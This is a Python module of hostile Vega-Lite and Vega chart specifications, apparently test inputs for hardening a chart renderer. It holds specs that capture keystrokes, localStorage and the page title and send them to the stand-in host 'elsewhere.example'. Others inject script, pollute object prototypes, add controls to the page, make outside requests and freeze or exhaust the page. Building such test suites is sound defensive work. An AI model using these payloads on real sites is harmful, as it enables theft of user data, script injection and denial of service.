"""Charts as somebody would write them who wants in: what Vega can do for those who let it."""

import json
from typing import Any

Spec = dict[str, Any]

ROWS = [{"name": "duck", "value": 0.7}, {"name": "dog", "value": 0.2}, {"name": "cat", "value": 0.1}]
_KEY = {"events": [{"source": "window", "type": "keydown"}], "update": "event.key"}
_TEXT = {"mark": {"type": "text", "x": 20, "y": 20}, "encoding": {"text": {"field": "said"}}}
X = {"field": "name", "type": "nominal"}
Y = {"field": "value", "type": "quantitative"}


def bars(**more: Any) -> Spec:
    return {"data": {"values": ROWS}, "mark": "bar", "encoding": {"x": X, "y": Y}, **more}


def _counted(names: list[Spec], *transform: Spec) -> Spec:
    """Bars of how often each name comes."""
    before = {"transform": list(transform)} if transform else {}
    return bars(data={"values": names}, encoding={"x": X, "y": {"aggregate": "count"}}, **before)


def _points(data: Spec, *transform: Spec) -> Spec:
    return {"data": data, "transform": list(transform), "mark": "point", "encoding": {"x": Y}}


def _doubled(expression: str) -> Spec:
    """A text of each row, computed from itself again and again."""
    doubled = {"calculate": expression, "as": "name"}
    return {"data": {"values": ROWS}, "transform": [doubled] * 29, **_TEXT, "encoding": {"text": {"field": "name"}}}


def _heard(expression: str, source: str = "window", kind: str = "keydown") -> Spec:
    """Show what an expression says whenever something happens: in words, and in the address of a picture."""
    heard = {"events": [{"source": source, "type": kind}], "update": expression}
    shown = {"calculate": "stolen", "as": "said"}
    sent = {"calculate": "'http://elsewhere.example/' + stolen", "as": "url"}
    image = {"mark": {"type": "image", "width": 9, "height": 9}, "encoding": {"url": {"field": "url"}}}
    return {
        "params": [{"name": "stolen", "value": "", "on": [heard]}],
        "data": {"values": [{}]},
        "transform": [shown, sent],
        "layer": [_TEXT, image],
    }


def _said(expression: str) -> Spec:
    return {"data": {"values": ROWS}, "transform": [{"calculate": expression, "as": "said"}], **_TEXT}


def _vega(**more: Any) -> Spec:
    return {"$schema": "https://vega.github.io/schema/vega/v6.json", "width": 100, "height": 100, **more}


READS: dict[str, Spec] = {
    "keys": _heard("event.key"),
    "storage": _heard("event.view.localStorage.getItem('secret')"),
    "title": _heard("event.view.document.title"),
    "pointer": _heard("event.view.localStorage.secret", kind="pointermove"),
    "any element": _heard("event.target.value", source="input", kind="input"),
    "timer": _heard("event.dataflow._el.ownerDocument.title", source="timer", kind="10"),
    "view": _heard("event.dataflow.container().ownerDocument.title", source="view", kind="click"),
    "a selection": bars(params=[{"name": "s", "select": {"type": "point", "on": "window:keydown"}}]),
    "an interval": bars(
        params=[{"name": "s", "select": {"type": "interval", "on": "[window:pointerdown, window:pointerup]"}}]
    ),
    "a selection bound to the scales": bars(params=[{"name": "s", "select": "interval", "bind": "scales"}]),
    "a word by name": _said("event.view.document.title"),
    "the constructor": _said("datum.constructor.constructor('return document.title')()"),
    "the constructor, in brackets": _said("datum['con' + 'structor']['con' + 'structor']('return 1')()"),
    "an item's way up": _said("item.mark.group.context.dataflow._el.ownerDocument.title"),
    "the screen": _said("screen().width + ' ' + windowSize()[0] + containerSize()[0]"),
    "a parameter's expression": {
        **_TEXT,
        "data": {"values": [{"said": "x"}]},
        "params": [{"name": "p", "expr": "windowSize()[0]"}],
    },
    "an expression in a mark": {
        "data": {"values": ROWS},
        "mark": {"type": "text", "text": {"expr": "windowSize()[0]"}},
    },
    "a signal in an axis": bars(encoding={"x": {**X, "axis": {"title": {"signal": "windowSize()[0]"}}}, "y": Y}),
    "a format that is code": bars(encoding={"x": X, "y": Y, "text": {**Y, "format": '") + windowSize()[0] + ("'}}),
    "a field that is code": bars(
        encoding={"x": X, "y": {"field": "a'] + windowSize()[0] + datum['b", "type": "quantitative"}}
    ),
    "a label that is code": bars(encoding={"x": {**X, "axis": {"labelExpr": "windowSize()[0]"}}, "y": Y}),
    "other functions": _said(
        "info(warn(debug(datum))) + pathShape('M0 0') + inScope(item) + treePath('x', 1, 2) + modify('x')"
    ),
    "Vega: keys": _vega(
        signals=[{"name": "s", "value": "", "on": [_KEY]}],
        marks=[{"type": "text", "encode": {"update": {"text": {"signal": "s"}, "x": {"value": 9}, "y": {"value": 9}}}}],
    ),
    "Vega: data that listen": _vega(
        data=[{"name": "d", "values": [{}], "on": [{"trigger": "windowSize()", "insert": "{x: windowSize()[0]}"}]}]
    ),
}
"""What would tell a chart something of the page."""

PLANTS: dict[str, Spec] = {
    "a password field": bars(params=[{"name": "p", "value": 1, "bind": {"input": "password", "element": "h1"}}]),
    "a slider in the page": bars(params=[{"name": "p", "value": 1, "bind": {"input": "range", "element": "body"}}]),
    "a control of its own": bars(params=[{"name": "p", "value": 1, "bind": {"input": "text"}}]),
    "a binding to a control of the page": bars(
        params=[{"name": "p", "value": 1, "bind": {"element": "input", "event": "input"}}]
    ),
    "a legend to press": bars(
        params=[{"name": "s", "select": {"type": "point", "fields": ["name"]}, "bind": "legend"}],
        encoding={"x": X, "y": Y, "color": X},
    ),
    "a selection's menu": bars(
        params=[
            {
                "name": "s",
                "select": {"type": "point", "fields": ["name"]},
                "bind": {"input": "select", "options": ["dog"]},
            }
        ]
    ),
    "the page's cursor": bars(mark={"type": "bar", "cursor": "wait"}, config={"events": {"globalCursor": True}}),
    "Vega: a control": _vega(signals=[{"name": "s", "value": 1, "bind": {"input": "password", "element": "body"}}]),
    "embed options": bars(
        usermeta={"embedOptions": {"actions": True, "bind": "body", "patch": "http://elsewhere.example/p"}}
    ),
    "classes of the page": bars(name="md-dialog", mark={"type": "bar", "style": ["md-overlay"], "description": "<b>"}),
}
"""What would put something into the page, outside of the chart."""

ELSEWHERE = "http://elsewhere.example/x"
REQUESTS: dict[str, Spec] = {
    "data": bars(data={"url": f"{ELSEWHERE}.json"}),
    "data of the site": bars(data={"url": "../vendor/manifest.json", "format": {"type": "json", "property": "files"}}),
    "a table to look up in": bars(
        transform=[{"lookup": "name", "from": {"data": {"url": ELSEWHERE}, "key": "a", "fields": ["b"]}}]
    ),
    "a map": {
        "data": {"url": ELSEWHERE, "format": {"type": "topojson", "feature": "x"}},
        "mark": "geoshape",
        "projection": {"type": "albers"},
    },
    "a picture": {"data": {"values": [{}]}, "mark": {"type": "image", "url": ELSEWHERE, "width": 9, "height": 9}},
    "a picture of the rows": {
        "data": {"values": [{"u": ELSEWHERE}]},
        "mark": {"type": "image", "width": 9, "height": 9},
        "encoding": {"url": {"field": "u"}},
    },
    "a picture that is a script": {
        "data": {"values": [{}]},
        "mark": {"type": "image", "url": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"},
    },
    "a link": bars(mark={"type": "bar", "href": ELSEWHERE}),
    "a script's link": bars(mark={"type": "bar", "href": "javascript:pwned(1)"}),
    "links of the rows": bars(encoding={"x": X, "y": Y, "href": {"value": ELSEWHERE}}),
    "a colour": bars(mark={"type": "bar", "fill": f"url({ELSEWHERE})", "stroke": f"url({ELSEWHERE}#a)"}),
    "a colour of the rows": bars(
        data={"values": [{**row, "c": f"url({ELSEWHERE})"} for row in ROWS]},
        encoding={"x": X, "y": Y, "color": {"field": "c", "type": "nominal", "scale": None}},
    ),
    "a colour of a scale": bars(encoding={"x": X, "y": Y, "color": {**X, "scale": {"range": [f"url({ELSEWHERE})"]}}}),
    "a background": bars(background=f"url({ELSEWHERE})"),
    "a font": bars(mark={"type": "text", "text": "a", "font": f"x; src: url({ELSEWHERE})"}),
    "a blend": bars(mark={"type": "bar", "blend": f"normal; background: url({ELSEWHERE})"}),
    "a shape": bars(mark={"type": "point", "shape": f'M0 0" href="{ELSEWHERE}'}),
    "a title": bars(title={"text": "a", "font": f"url({ELSEWHERE})"}),
    "loaders": bars(config={"loader": {"baseURL": ELSEWHERE}, "signals": [{"name": "q", "update": "loadData('x')"}]}),
    "a locale": bars(config={"locale": {"number": {"decimal": "<img src=x onerror=pwned(2)>"}}}),
    "words that are markup": bars(title="</text><image href='http://elsewhere.example/x'/><script>pwned(3)</script>"),
    "Vega: data": _vega(data=[{"name": "d", "url": ELSEWHERE}]),
    "Vega: a function that loads": _vega(
        signals=[{"name": "s", "value": 0}],
        data=[{"name": "d", "values": [{}], "transform": [{"type": "load", "url": {"signal": f"'{ELSEWHERE}'"}}]}],
    ),
}
"""What would ask for something, or lead away."""

_PROTO = json.loads('{"__proto__": {"polluted": 1}, "value": 1, "name": "a"}')
POLLUTES: dict[str, Spec] = {
    "a row's prototype": bars(data={"values": [_PROTO]}),
    "a name that groups": _counted([{"name": "__proto__"}, {"name": "constructor"}, {"name": "toString"}]),
    "a name that is put together": _counted([{"a": "__pro"}], {"calculate": "datum.a + 'to__'", "as": "name"}),
    "a list that says a name": _counted(
        ROWS,
        {"calculate": "if(true, [lower('__PROTO__')], 1)", "as": "name"},
        {"joinaggregate": [{"op": "sum", "field": "value", "as": "sum"}], "groupby": ["name"]},
    ),
    "lists that say names, stacked": bars(
        transform=[
            {"calculate": "[trim(' constructor')]", "as": "name"},
            {"stack": "value", "groupby": ["name"], "as": ["a", "b"]},
        ]
    ),
    "a column": bars(transform=[{"calculate": "1", "as": "__proto__"}, {"calculate": "2", "as": "constructor"}]),
    "a column by a path": bars(transform=[{"calculate": "1", "as": "__proto__.polluted"}]),
    "a spec's prototype": json.loads(json.dumps(bars())[:-1] + ', "__proto__": {"polluted": 2}}'),
    "a data set": bars(data={"name": "__proto__"}, datasets=json.loads('{"__proto__": [{"polluted": 1}]}')),
    "a scale's prototype": bars(encoding={"x": X, "y": {**Y, "scale": json.loads('{"__proto__": {"polluted": 3}}')}}),
}
"""What would change what every object of the page is made of."""

_MANY = {"values": [{"name": f"n{i}", "value": i} for i in range(30_000)]}
_DEEP: Spec = bars()
for _ in range(200):
    _DEEP = {"layer": [_DEEP]}
_TESTS: Any = "datum.value > 0"
for _ in range(200):
    _TESTS = {"not": _TESTS}
FREEZES: dict[str, Spec] = {
    "a wide chart": bars(width=1e9),
    "a wide step": bars(width={"step": 1e9}),
    "many marks": bars(data=_MANY),
    "many layers": {"data": {"values": ROWS}, "layer": [{"mark": "bar", "encoding": {"x": X, "y": Y}}] * 10_000},
    "many charts": {"hconcat": [bars()] * 1000},
    "deep layers": _DEEP,
    "deep tests": bars(transform=[{"filter": _TESTS}]),
    "a sequence": {"data": {"sequence": {"start": 0, "stop": 1e9}}, "mark": "point"},
    "a sequence in an expression": _said("length(sequence(0, 1e9))"),
    "many bins": bars(encoding={"x": {**Y, "bin": {"maxbins": 1e9}}, "y": {"aggregate": "count"}}),
    "narrow bins": bars(encoding={"x": {**Y, "bin": {"step": 1e-9}}, "y": {"aggregate": "count"}}),
    "many ticks": bars(encoding={"x": X, "y": {**Y, "axis": {"tickCount": 1e9}}}),
    "a tick a second": bars(
        encoding={"x": {"field": "value", "type": "temporal", "axis": {"tickCount": "millisecond"}}, "y": Y}
    ),
    "a logarithm of almost 1": bars(encoding={"x": X, "y": {**Y, "scale": {"type": "log", "base": 1 + 1e-12}}}),
    "a density of many steps": bars(transform=[{"density": "value", "steps": 1e9}]),
    "many quantiles": bars(transform=[{"quantile": "value", "step": 1e-9}]),
    "many values to fill in": bars(
        transform=[{"impute": "value", "key": "value", "keyvals": {"start": 0, "stop": 1e9}}]
    ),
    "folds of folds": bars(transform=[{"fold": ["name", "value"] * 10}] * 20),
    "lists that double": _doubled("[datum.name, datum.name]"),
    "lists that double, in a function": _doubled("if(true, [datum.name, datum.name], 1)"),
    "lines of one letter": bars(mark={"type": "text", "text": "xy" * 150, "lineBreak": "x"}),
    "one table in many charts": {
        "hconcat": [
            {"data": {"name": "big", "values": _MANY["values"][:20_000]}, "mark": "point", "encoding": {"x": Y}},
            *[{"data": {"name": "big"}, "mark": "point", "encoding": {"x": Y}}] * 27,
        ]
    },
    "long lists asked of many rows": _points(
        {"values": _MANY["values"][:10_000]},
        *[{"filter": {"not": {"and": [{"field": "value", "oneOf": [0.5] * 500}] * 20}}}] * 30,
    ),
    "long expressions asked of many rows": _points(
        {"values": _MANY["values"][:20_000]},
        *[{"calculate": "+".join(["sin(datum.value)"] * 28), "as": "value"}] * 30,
    ),
    "dashes that nobody sees": bars(mark={"type": "rule", "strokeDash": [0.004, 0.004]}, width=2000),
    "a slow regular expression": _said("test(/(a+)+$/, 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')"),
    "a slow regular expression from text": _said(
        "test(regexp('(a+)+$'), 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')"
    ),
    "padding": _said("pad('', 1e9, 'x')"),
    "a wide format": bars(encoding={"x": X, "y": {**Y, "axis": {"format": "0999999999d"}}}),
    "a wide format in an expression": _said("format(datum.value, '0999999999d')"),
    "repeats": {"repeat": {"row": ["name", "value"] * 500, "column": ["name", "value"] * 500}, "spec": bars()},
    "facets": {"facet": {"field": "name"}, "data": _MANY, "spec": {"mark": "bar", "encoding": {"x": X}}},
    "rows of facets": bars(data=_MANY, encoding={"row": X, "column": Y}),
    "forces": _vega(
        data=[
            {
                "name": "d",
                "values": [{}],
                "transform": [{"type": "force", "iterations": 1e9, "forces": [{"force": "nbody"}]}],
            }
        ],
        marks=[{"type": "symbol", "from": {"data": "d"}}],
    ),
    "signals that loop": _vega(signals=[{"name": "a", "update": "b + 1"}, {"name": "b", "update": "a + 1"}]),
    "a long expression": _said("+".join(["1"] * 100_000)),
    "brackets": _said("(" * 10_000 + "1" + ")" * 10_000),
    "a long text": bars(title="x" * 10_000_000),
}
"""What would keep the page busy for ever."""

SWELLS: dict[str, tuple[Spec, str]] = {
    "texts that double": (
        {
            "data": {"values": ROWS},
            "transform": [{"calculate": "datum.name + datum.name", "as": "name"}] * 30,
            **_TEXT,
        },
        "a text that is not allowed",
    ),
    "a long text for each of many rows": (
        {
            "data": {"values": [{"name": "y" * 20, "value": i} for i in range(20_000)]},
            "transform": [{"calculate": "+".join(["datum.name"] * 30), "as": "name"}] * 2,
            "mark": {"type": "point", "tooltip": {"content": "data"}},
            "encoding": {"y": Y},
        },
        "texts of more than 4000000 characters",
    ),
    "many names below bars": (bars(data={"values": _MANY["values"][:20_000]}), "more than 2000 series"),
    "many names on both sides": (
        bars(mark="rect", data={"values": _MANY["values"][:20_000]}, encoding={"x": X, "y": X}),
        "axes and legends of more than 10000 parts",
    ),
    "a stack with a cell for each two rows": (
        {
            "data": {"values": [{"name": f"n{i}", "series": f"s{i}", "value": i} for i in range(3000)]},
            "mark": "area",
            "encoding": {"x": X, "y": Y, "color": {"field": "series", "type": "nominal"}},
        },
        "a stack of more than 200000 cells",
    ),
    "lists that double": (FREEZES["lists that double"], "a value that is not plain"),
}
"""What comes to much only while it is drawn, and what stops it then."""
